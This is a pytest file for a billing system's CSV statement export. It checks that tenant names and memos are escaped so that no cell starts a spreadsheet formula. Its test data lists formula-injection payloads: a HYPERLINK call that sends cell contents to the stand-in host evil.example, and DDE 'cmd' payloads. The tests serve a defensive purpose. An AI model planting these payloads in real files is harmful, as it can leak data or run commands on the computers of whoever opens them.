"""A tenant's CSV statement never carries a cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import pytest

from shuidian_billing.adapters.statements import csv_cell, to_csv

ATTACKS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def statement(name: str, memo: str) -> dict[str, Any]:
    return {
        "month": "2026-11",
        "account_id": "A-1",
        "name": name,
        "timezone": "Asia/Shanghai",
        "period_start": "2026-11-01T00:00:00+08:00",
        "period_end": "2026-12-01T00:00:00+08:00",
        "opening_balance": Decimal("10.00"),
        "closing_balance": Decimal("-3.06"),
        "usage": [{"utility": "electricity", "quantity": Decimal("5"), "unit": "kWh", "charged": Decimal("3.06")}],
        "tariff_breakdown": [],
        "lines": {
            "payments": [{"channel": None, "at": "2026-11-02", "reference": memo, "memo": "", "amount": "5.00"}],
            "subsidies": [],
            "fees": [],
            "refunds": [],
            "corrections": [{"channel": None, "at": "2026-11-03", "reference": None, "memo": memo, "amount": "-1"}],
            "other": [],
        },
    }


def cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_of_a_statement_starts_a_formula(attack: str) -> None:
    written = cells(to_csv(statement(attack, attack)))
    assert "'" + attack in written  # the account name, shown as text
    for cell in written:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or cell in ("-3.06", "-1"), cell


def test_numbers_stay_numbers_and_text_stays_as_written() -> None:
    assert csv_cell("-3.06") == "-3.06"
    assert csv_cell(Decimal("-12")) == "-12"
    assert csv_cell("张三 Zhang San") == "张三 Zhang San"
    assert csv_cell("-") == "'-"
    assert csv_cell("-1e3") == "'-1e3"
